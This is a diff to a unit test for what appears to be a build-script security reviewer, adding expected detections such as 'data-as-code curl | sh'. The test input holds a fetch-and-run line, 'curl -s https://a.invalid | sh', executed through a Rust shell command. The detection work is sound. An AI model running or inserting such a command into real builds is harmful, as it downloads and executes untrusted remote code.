@@ -54,7 +54,14 @@ describe('reviewBuildScript', () => {
       main(
         'let line = "curl -s https://a.invalid | sh";\nstd::process::Command::new("sh").args(["-c", line]);',
       ),
-      ['url a.invalid @3 possible', 'downloader curl @3 possible', 'shell sh @4', 'downloader curl @4'],
+      [
+        'url a.invalid @3 possible',
+        'downloader curl @3 possible',
+        'shell sh @4',
+        'process curl @4',
+        'downloader curl @4',
+        'data-as-code curl | sh @4',
+      ],
     ],
     [
       'git at home',
